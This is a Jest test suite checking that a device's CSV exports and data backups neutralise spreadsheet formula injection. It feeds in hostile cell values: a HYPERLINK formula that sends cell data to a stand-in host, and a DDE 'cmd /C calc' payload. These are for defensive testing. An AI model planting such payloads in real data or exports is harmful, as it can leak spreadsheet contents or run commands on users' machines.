/** Spreadsheet formula injection (audit of issue 20, item 17; AUD-01 for the operation log): no
 * text that reaches a CSV export (the operation log, the event log, a data log's header and
 * values, and the data backups holding them) is run as a formula when the file is opened in a
 * spreadsheet. Every export writes its cells with server/lib/csv.ts: a text starting with = + - @,
 * a tab or a carriage return gets a leading single quote, then the usual quoting; numbers stay
 * numbers. The data log's fast path (pages of numbers written byte by byte, CsvPageWriter) is
 * checked to write what the cell writer writes. */
import { entriesOf } from '../support/archives';
import { startTestDevice, type TestDevice } from '../support/device';
import { ManualClock } from '../../server/lib/clock';
import { csvLine } from '../../server/lib/csv';

jest.setTimeout(30_000);

const T0 = Date.UTC(2026, 0, 1, 12, 0, 0);
const iso = (ms: number) => new Date(ms).toISOString();
const csvLines = (body: string) => body.split('\n').filter((l, i, all) => !(l === '' && i === all.length - 1));

/** What an attacker types, and the cell the device must write for it. */
const HYPERLINK = '=HYPERLINK("http://x"&A1,"Click")';
const HYPERLINK_CELL = `"'=HYPERLINK(""http://x""&A1,""Click"")"`;

/** No cell of a CSV text starts a formula (quoted or not). */
function formulaCells(body: string): string[] {
  const cells: string[] = [];
  // A small CSV reader: quoted cells with "" inside, commas, line ends.
  let i = 0;
  let cell = '';
  let quoted = false;
  while (i < body.length) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') {
      cells.push(cell);
      cell = '';
    } else cell += c;
    i++;
  }
  if (cell) cells.push(cell);
  return cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c));
}

describe('CSV formula injection', () => {
  const clock = new ManualClock(T0);
  let t: TestDevice;
  let history: string;
  let logId: number;

  beforeAll(async () => {
    t = await startTestDevice({ clock });
    history = await t.login('history');

    // AUD-01: a sign-in refused, by someone with no account, under a formula for a user name.
    const refused = await t.app.inject({
      method: 'POST',
      url: '/api/v1/auth/token/app',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ grant_type: 'password', username: HYPERLINK, password: 'wrong-one' }).toString(),
    });
    expect(refused.statusCode).toBe(401);
    t.device.oplog.flush();

    // An alarm of the project whose name, tag and message are formulas.
    clock.advance(1000);
    t.device.db.prepare('DELETE FROM alarm_events').run();
    t.device.alarms.evaluate(
      [{ id: 90, name: '@SUM(1+1)', tag: '+Tank', condition: { op: '>', value: 1 }, severity: 'high', message: '-2+3*cmd|\' /C calc\'!A0' }],
      () => 5,
      clock.now(),
    );

    // A data log whose tags have formula names, and a text tag holding formulas.
    const project = t.device.project.project;
    const withText = { ...project, data_logs: [{ name: 'Batches', sample_period_s: 1, tags: ['Batch_Code', '=1+2', 'Tank1_Level'], max_records: 100 }] };
    t.device.db.transaction(() => t.device.dataLogs.replace(t.device.project.active().id, withText))();
    logId = t.device.dataLogs.list()[0]!.id;
    t.device.dataLogs.appendMany(logId, [
      [T0 + 1000, [HYPERLINK, null, -12.5]],
      [T0 + 2000, ['\t=1+1', 7, -1e-7]],
      [T0 + 3000, ['\r=1+1', -3, 0]],
      [T0 + 4000, ['-5', 1, 2]],
      [T0 + 5000, ['+1', 1, 2]],
      [T0 + 6000, ['Lot "7", grün', 1, 2]],
    ]);
  });
  afterAll(() => t.close());

  it('[AUD-01] the operation log: a refused sign-in under =HYPERLINK(…) as the user name, with no sign-in at all', async () => {
    const res = await t.call('GET', '/api/v1/operation-log/export', history);
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain(HYPERLINK_CELL);
    expect(formulaCells(res.body)).toEqual([]);
  });

  it('the event log: an alarm whose name, tag and message are formulas', async () => {
    const res = await t.call('GET', '/api/v1/eventlog/export', history);
    expect(res.statusCode).toBe(200);
    const lines = csvLines(res.body);
    expect(lines).toHaveLength(2);
    const cells = lines[1]!.split(',');
    expect(cells.slice(2, 6)).toEqual(["'@SUM(1+1)", "'+Tank", 'high', "'-2+3*cmd|' /C calc'!A0"]);
    // The value the device wrote is a number and stays one.
    expect(cells[6]).toBe('5');
    expect(formulaCells(res.body)).toEqual([]);
  });

  it('a data log: tag names in the header, text values; numbers (negative ones too) and plain decimal texts as they are', async () => {
    const res = await t.call('GET', `/api/v1/datalog/${logId}/export`, history);
    expect(res.statusCode).toBe(200);
    expect(csvLines(res.body)).toEqual([
      "time,Batch_Code,'=1+2,Tank1_Level",
      `${iso(T0 + 1000)},${HYPERLINK_CELL},,-12.5`,
      `${iso(T0 + 2000)},'\t=1+1,7,-1e-7`,
      `${iso(T0 + 3000)},"'\r=1+1",-3,0`,
      `${iso(T0 + 4000)},-5,1,2`,
      `${iso(T0 + 5000)},'+1,1,2`,
      `${iso(T0 + 6000)},"Lot ""7"", grün",1,2`,
    ]);
    expect(formulaCells(res.body)).toEqual([]);
  });

  it('the data backups: every CSV inside neutralised the same way', async () => {
    const res = await t.call('POST', '/api/v1/data/backup', history, { what: ['datalog', 'eventlog', 'operationlog'], from: iso(0), to: iso(T0 + 86_400_000), target: 'download' });
    expect(res.statusCode).toBe(200);
    const entries = await entriesOf(res.rawPayload);
    expect([...entries.keys()]).toEqual(['manifest.json', 'datalog/Batches.csv', 'eventlog.csv', 'operationlog.csv']);
    const data = entries.get('datalog/Batches.csv')!.toString('utf8');
    expect(data).toContain("time,Batch_Code,'=1+2,Tank1_Level\n");
    expect(data).toContain(HYPERLINK_CELL);
    expect(entries.get('eventlog.csv')!.toString('utf8')).toContain("'@SUM(1+1)");
    expect(entries.get('operationlog.csv')!.toString('utf8')).toContain(HYPERLINK_CELL);
    for (const [name, content] of entries) if (name.endsWith('.csv')) expect({ name, formulas: formulaCells(content.toString('utf8')) }).toEqual({ name, formulas: [] });
  });
});

describe("a data log's fast path (pages of numbers written byte by byte)", () => {
  let t: TestDevice;

  beforeAll(async () => {
    t = await startTestDevice({ clock: new ManualClock(T0) });
    const project = t.device.project.project;
    const numbers = { ...project, data_logs: [{ name: 'Numbers', sample_period_s: 1, tags: ['Tank1_Level', 'Tank1_Temperature', 'Batch_Code'], max_records: 100_000 }] };
    t.device.db.transaction(() => t.device.dataLogs.replace(t.device.project.active().id, numbers))();
  });
  afterAll(() => t.close());

  it('writes what the cell writer writes for the same records, across pages and days, text pages included', async () => {
    const id = t.device.dataLogs.list()[0]!.id;
    const values = [0, -0.5, -12, 3.25, 1e21, -1e21, 1.5e-7, -2.5e-9, 123456789.125, -0, null, 65535, -32768];
    const rows: [number, (number | string | null)[]][] = [];
    for (let i = 0; i < 12_000; i++) {
      // Every 2,500th record a text (its page is written row by row), the others numbers only.
      const text = i % 2500 === 1234 ? ['=1+1', '-7', 'Lot 7'][i % 3]! : null;
      rows.push([T0 - 3_600_000 + i * 41_000, [values[i % values.length]!, values[(i * 7) % values.length]!, text]]);
    }
    t.device.dataLogs.appendMany(id, rows);
    const res = await t.call('GET', `/api/v1/datalog/${id}/export`, await t.login('history'));
    expect(res.headers['x-record-count']).toBe('12000');
    const expected = [csvLine(['time', 'Tank1_Level', 'Tank1_Temperature', 'Batch_Code']), ...rows.map(([ms, v]) => csvLine([iso(ms), ...v]))].join('');
    expect(res.body).toBe(expected);
  });
});
